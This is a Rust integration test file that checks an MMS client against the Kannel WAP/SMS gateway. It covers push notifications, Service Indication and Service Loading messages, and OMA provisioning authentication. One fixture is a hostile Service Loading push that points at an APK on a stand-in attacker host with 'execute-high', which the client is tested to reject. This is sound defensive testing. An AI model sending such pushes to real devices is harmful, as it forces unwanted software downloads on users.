//! Interoperability with Kannel, the open-source WAP/SMS gateway real MMS and push deployments
//! used (Debian `kannel` 1.4.5, `kannel-extras`), on loopback: its Push Proxy Gateway takes PAP
//! pushes of an MMS notification, a Service Indication and a Service Loading, its smsbox sends
//! OMA Client Provisioning with `sendota`; Kannel encodes each (WSP push, its own SI/SL and
//! provisioning WBXML compilers, SMS segmentation with its user data headers), hands it to its
//! fake SMSC, and what the SMSC receives reaches the client's SMS bearer by the entry point an
//! app uses (`MmsClient::handle_sms`). The README test command installs Kannel; when it is
//! missing and `MMS_REQUIRE_KANNEL` is not set, the tests say so and pass.
//!
//! Where Kannel and the OMA specifications disagree, the client follows the specification and
//! the test names the disagreement and its reference.

use mms_core::pdu::builder::{Notification, notification_ind};
use mms_core::pdu::{ClassToken, TimeValue};
use mms_core::provisioning::{Credentials, ProvisioningInput, Secret};
use mms_core::push::{PushContent, PushKind, PushReason, PushVerdict, Verdict};
use mms_core::{AutoDownload, MmsClient, State};
use mms_tests::harness::*;
use mms_tests::kannel::{self, Kannel, OTA_USER, PPG_NUMBER, SmscMessage};
use mock_mmsc::{MockConfig, MockMmsc};
use std::time::Duration;

const PHONE: &str = "+15557801";

/// Hands every message to the client's SMS bearer; the verdict of the last segment.
async fn deliver(client: &MmsClient, sms: &[SmscMessage]) -> Option<PushVerdict> {
    let mut last = None;
    for m in sms {
        last = client.handle_sms(&m.deliver_tpdu(), true).await;
    }
    last
}

fn pap(k: &Kannel, id: &str, content_type: &str, app: Option<&str>, content: &[u8]) {
    let (body, ct) = kannel::pap_request(id, PHONE, content_type, app, content);
    let (status, answer) = kannel::http_post(&k.ppg_url, &ct, &[], &body).unwrap();
    assert_eq!(status, 202, "{answer}");
    assert!(answer.contains("code =\"1001\""), "{answer}");
}

/// PUSH-1, PUSH-2, PUSH-3, PUSH-5: Kannel's PPG pushes an MMS notification (the client then
/// fetches the message from the MMSC), an SL (never loaded) and SIs (shown; an expired one
/// discarded), each through Kannel's WSP and WBXML encoders and its SMS segmentation.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kannel_ppg_pushes_reach_the_sms_bearer_and_are_judged() {
    if !kannel::available("Kannel PPG interop") {
        return;
    }
    let k = tokio::task::spawn_blocking(|| Kannel::start("ppg"))
        .await
        .unwrap()
        .unwrap();
    let mmsc = MockMmsc::start(MockConfig::default()).await.unwrap();
    let sender = phone(&mmsc, "+15557800", "kannel").await.unwrap();
    let mut p = profile(&mmsc.url(), PHONE);
    p.push_origins = vec![format!("+{PPG_NUMBER}")];
    let me = phone_with(&mmsc, PHONE, "kannel", p).await.unwrap();
    // The MMSC cannot reach the phone itself: its notification goes through Kannel's PPG.
    mmsc.register(PHONE, None);

    // 1. An MMS notification for a real message on the MMSC.
    sender
        .client
        .send(text_draft(PHONE, Some("via Kannel"), b"pushed by a PPG"))
        .await
        .unwrap();
    let entry = mmsc.log_of("notification_not_pushed").pop().unwrap();
    let mut w = entry.detail.split_whitespace();
    let (tid, location) = (w.next().unwrap(), w.next().unwrap());
    let notif = notification_ind(&Notification {
        transaction_id: tid,
        from: Some("+15557800/TYPE=PLMN"),
        subject: Some("via Kannel"),
        size: 200,
        expiry: TimeValue::Relative(86_400),
        content_location: location,
        class: ClassToken::Personal,
        delivery_report: false,
    })
    .encode()
    .unwrap();
    pap(
        &k,
        "mms-1@pi.example",
        "application/vnd.wap.mms-message",
        Some("x-wap-application:mms.ua"),
        &notif,
    );
    let sms = k.drain(Duration::from_secs(15), Duration::from_millis(500));
    assert!(
        !sms.is_empty(),
        "nothing reached the SMSC; see {}",
        k.dir().display()
    );
    assert!(
        sms.iter()
            .all(|m| m.receiver == PHONE && m.sender == PPG_NUMBER)
    );
    let v = deliver(&me.client, &sms).await.expect("a complete push");
    assert_eq!(
        (v.verdict, v.kind, v.origin.as_str()),
        (Verdict::Accept, PushKind::Mms, "+447785016005"),
        "{v:?}"
    );
    let PushContent::Notification(n) = &v.content else {
        panic!("{v:?}")
    };
    assert_eq!(
        (n.transaction_id.as_str(), n.content_location.as_str()),
        (tid, location)
    );
    let got = eventually("the download from the MMSC", || {
        let m = me.client.messages().ok()?.into_iter().next()?;
        (m.state == State::Downloaded).then_some(m.id)
    })
    .await
    .unwrap();
    let view = me.client.message(got).unwrap();
    assert_eq!(view.parts[0].data, b"pushed by a PPG");
    // The same push on a phone that does not trust the PPG's number: kept, not fetched.
    let mut p = profile(&mmsc.url(), "+15557802");
    p.auto_download = AutoDownload::Always;
    let stranger = phone_with(&mmsc, "+15557802", "kannel", p).await.unwrap();
    let v = deliver(&stranger.client, &sms).await.unwrap();
    assert_eq!(
        (v.verdict, v.reason, v.auto_download),
        (
            Verdict::AcceptUnverified,
            PushReason::UntrustedOrigin,
            false
        )
    );

    // 2. A Service Loading with execute-high: Kannel compiles it to WBXML; never loaded.
    let sl = br#"<?xml version="1.0"?>
<!DOCTYPE sl PUBLIC "-//WAPFORUM//DTD SL 1.0//EN" "http://www.wapforum.org/DTD/sl.dtd">
<sl href="http://evil.example/app.apk" action="execute-high"></sl>"#;
    pap(&k, "sl-1@pi.example", "text/vnd.wap.sl", None, sl);
    let sms = k.drain(Duration::from_secs(15), Duration::from_millis(500));
    let v = deliver(&me.client, &sms).await.expect("a complete push");
    assert_eq!(v.kind, PushKind::ServiceLoading, "{v:?}");
    assert_eq!(v.verdict, Verdict::Reject, "{v:?}");
    assert!(!v.auto_download);

    // 3. A Service Indication from the trusted PPG: its text, link and action as sent.
    let si = br#"<?xml version="1.0"?>
<!DOCTYPE si PUBLIC "-//WAPFORUM//DTD SI 1.0//EN" "http://www.wapforum.org/DTD/si.dtd">
<si><indication href="http://www.operator.example/news" si-id="news-1" action="signal-medium" created="2026-11-01T10:00:00Z" si-expires="2036-01-01T00:00:00Z">Your bill is ready</indication></si>"#;
    pap(&k, "si-1@pi.example", "text/vnd.wap.si", None, si);
    let sms = k.drain(Duration::from_secs(15), Duration::from_millis(500));
    let v = deliver(&me.client, &sms).await.expect("a complete push");
    let PushContent::ServiceIndication { si: ind, .. } = &v.content else {
        panic!("{v:?}")
    };
    assert_eq!(ind.text, "Your bill is ready");
    assert_eq!(
        ind.href.as_deref(),
        Some("http://www.operator.example/news")
    );
    assert_eq!(ind.action, "signal-medium");
    assert_ne!(v.verdict, Verdict::Reject, "{v:?}");

    // 4. The same SI already expired: discarded (WAP-167 6.2), trusted origin or not.
    let old = String::from_utf8_lossy(si).replace("2036-01-01", "2020-01-01");
    pap(
        &k,
        "si-2@pi.example",
        "text/vnd.wap.si",
        None,
        old.as_bytes(),
    );
    let sms = k.drain(Duration::from_secs(15), Duration::from_millis(500));
    let v = deliver(&me.client, &sms).await.expect("a complete push");
    assert_eq!(
        (v.verdict, v.reason),
        (Verdict::Reject, PushReason::Expired),
        "{v:?}"
    );
}

/// OTA-1, OTA-2: Kannel's `sendota` sends an OMA Client Provisioning document (Kannel's own
/// provisioning WBXML compiler, SEC and MAC in the WSP content type, concatenated SMS) with
/// each SEC method it offers. USERPIN: the client verifies it with the right PIN, refuses a
/// wrong one, and reads the MMS settings Kannel encoded.
///
/// Disagreement (Kannel 1.4.5 `ota_prov.c` against OMA-WAP-TS-ProvBoot-V1_1 section 5.3):
/// Kannel takes one `X-Kannel-PIN` for every method and keys the HMAC-SHA1 with it as text,
/// only changing the SEC it announces. The specification keys NETWPIN with the IMSI in
/// semi-octets (with its parity nibble), USERNETWPIN with that IMSI followed by the PIN, and
/// USERPINMAC with the first half of a PIN whose second half is the MAC in decimal digits. A
/// client that took Kannel's NETWPIN, USERNETWPIN or USERPINMAC documents would accept keys
/// the network did not derive (for NETWPIN, the IMSI typed as text), so the client follows
/// the specification and refuses them; the test checks that Kannel's MAC is exactly the
/// HMAC keyed with the text, so the disagreement is the one described.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kannel_sendota_provisioning_is_authenticated_and_read() {
    use mms_core::provisioning::{AuthError, ProvisioningError, SecMethod, compute_mac};
    if !kannel::available("Kannel sendota interop") {
        return;
    }
    let k = tokio::task::spawn_blocking(|| Kannel::start("ota"))
        .await
        .unwrap()
        .unwrap();
    let mmsc = MockMmsc::start(MockConfig::default()).await.unwrap();
    let mut p = profile(&mmsc.url(), PHONE);
    p.push_origins = vec![format!("+{PPG_NUMBER}")];
    let me = phone_with(&mmsc, PHONE, "kannel-ota", p).await.unwrap();
    let doc = include_str!("../../fixtures/kannel/mms-settings.xml");
    const IMSI: &str = "001010123456789";
    let send = |sec: &str, pin: &str| {
        kannel::http_post(
            &k.sendota_url,
            "text/vnd.wap.connectivity-xml",
            &[
                ("X-Kannel-Username", OTA_USER.0),
                ("X-Kannel-Password", OTA_USER.1),
                ("X-Kannel-To", PHONE),
                ("X-Kannel-From", PPG_NUMBER),
                ("X-Kannel-SEC", sec),
                ("X-Kannel-PIN", pin),
            ],
            doc.as_bytes(),
        )
        .unwrap()
    };
    let creds = |imsi: Option<&str>, pin: Option<&str>| Credentials {
        imsi: imsi.map(Secret::new),
        pin: pin.map(Secret::new),
    };
    // What Kannel sends for a method and a PIN, as the client's provisioning input.
    let received = async |sec: &str, pin: &str| {
        let (status, answer) = send(sec, pin);
        assert_eq!(status, 202, "{sec}: {answer}");
        let sms = k.drain(Duration::from_secs(15), Duration::from_millis(700));
        assert!(
            sms.len() > 1,
            "{sec}: Kannel segments the document ({})",
            sms.len()
        );
        let v = deliver(&me.client, &sms).await.expect("a complete push");
        assert_eq!(
            (v.kind, v.verdict),
            (PushKind::Provisioning, Verdict::AcceptUnverified),
            "{sec}: {v:?}"
        );
        ProvisioningInput::from_verdict(&v).unwrap()
    };

    // USERPIN: verified with the PIN, refused with another; the settings are Kannel's.
    let input = received("USERPIN", "2580").await;
    assert_eq!(input.sec, Some(1));
    let verify =
        |input: &ProvisioningInput, c: &Credentials| me.client.provisioner().verify(input, c);
    assert!(matches!(
        verify(&input, &creds(None, Some("2581"))),
        Err(ProvisioningError::Auth(AuthError::MacMismatch))
    ));
    let pending = verify(&input, &creds(None, Some("2580"))).unwrap();
    assert_eq!(
        pending.new.mmsc_url,
        "http://mmsc.operator.example:8002/mms"
    );
    let proxy = pending.new.proxy.as_ref().unwrap();
    assert_eq!((proxy.host.as_str(), proxy.port), ("10.10.10.10", 8080));
    assert_eq!(pending.new.apn.as_deref(), Some("mms.operator.example"));

    // The other methods: refused, and Kannel's MAC is the HMAC keyed with the PIN as text.
    for (sec, code, kannel_pin, ours) in [
        ("NETWPIN", 0, IMSI, creds(Some(IMSI), None)),
        ("USERNETWPIN", 2, "2580", creds(Some(IMSI), Some("2580"))),
        (
            "USERPINMAC",
            3,
            "1234567890",
            creds(None, Some("1234567890")),
        ),
    ] {
        let input = received(sec, kannel_pin).await;
        assert_eq!(input.sec, Some(code), "{sec}");
        assert!(
            verify(&input, &ours).is_err(),
            "{sec} taken as Kannel keys it"
        );
        let as_text = compute_mac(
            SecMethod::Userpin,
            &input.body,
            &creds(None, Some(kannel_pin)),
        )
        .unwrap();
        assert_eq!(input.mac.as_deref(), Some(as_text.as_str()), "{sec}");
    }
}
